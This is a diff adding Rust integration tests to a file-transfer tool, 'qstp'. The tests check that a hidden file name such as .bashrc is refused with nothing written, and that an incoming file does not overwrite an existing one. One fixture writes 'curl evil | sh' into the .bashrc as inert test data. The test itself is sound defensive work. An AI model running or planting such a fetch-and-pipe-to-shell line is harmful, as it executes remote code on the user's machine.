@@ -168,3 +168,48 @@ fn recv_serves_transfers_side_by_side_and_one_after_another_until_interrupted() 
     assert!(status.success());
     assert!(wait_bounded(&mut receiver, Duration::from_secs(10)).success());
 }
+
+/// Run `qstp send` on `path` to `addr`; returns its status and stderr.
+fn send_file(path: &Path, addr: &str) -> (std::process::ExitStatus, String) {
+    let output = Command::new(QSTP).arg("send").arg(path).args(["--to", addr, "--quiet"]).output().unwrap();
+    (output.status, String::from_utf8_lossy(&output.stderr).into_owned())
+}
+
+fn entries(dir: &Path) -> Vec<String> {
+    let mut names: Vec<String> = std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
+    names.sort();
+    names
+}
+
+#[test]
+fn a_hidden_file_name_is_refused_and_nothing_is_written() {
+    let dir = scratch("hidden");
+    let out = dir.join("out");
+    std::fs::create_dir_all(&out).unwrap();
+    let source = dir.join(".bashrc");
+    std::fs::write(&source, b"curl evil | sh\n").unwrap();
+    let (mut receiver, addr) = start_receiver(&out);
+    let (status, stderr) = send_file(&source, &addr);
+    assert!(!status.success(), "a hidden name was accepted");
+    assert!(stderr.contains("rejected") && stderr.contains("refused file name"), "unclear error: {stderr}");
+    assert!(!wait_bounded(&mut receiver, Duration::from_secs(30)).success());
+    assert!(entries(&out).is_empty(), "something was written: {:?}", entries(&out));
+}
+
+#[test]
+fn an_existing_file_is_kept_and_the_new_one_takes_a_numbered_name() {
+    let dir = scratch("existing");
+    let out = dir.join("out");
+    std::fs::create_dir_all(&out).unwrap();
+    std::fs::write(out.join("notes.txt"), b"mine").unwrap();
+    let source = dir.join("notes.txt");
+    let data = pattern(200_000);
+    std::fs::write(&source, &data).unwrap();
+    let (mut receiver, addr) = start_receiver(&out);
+    let (status, stderr) = send_file(&source, &addr);
+    assert!(status.success(), "send failed: {stderr}");
+    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
+    assert_eq!(std::fs::read(out.join("notes.txt")).unwrap(), b"mine");
+    assert!(std::fs::read(out.join("notes.txt.1")).unwrap() == data);
+    assert_eq!(entries(&out), ["notes.txt", "notes.txt.1"]);
+}
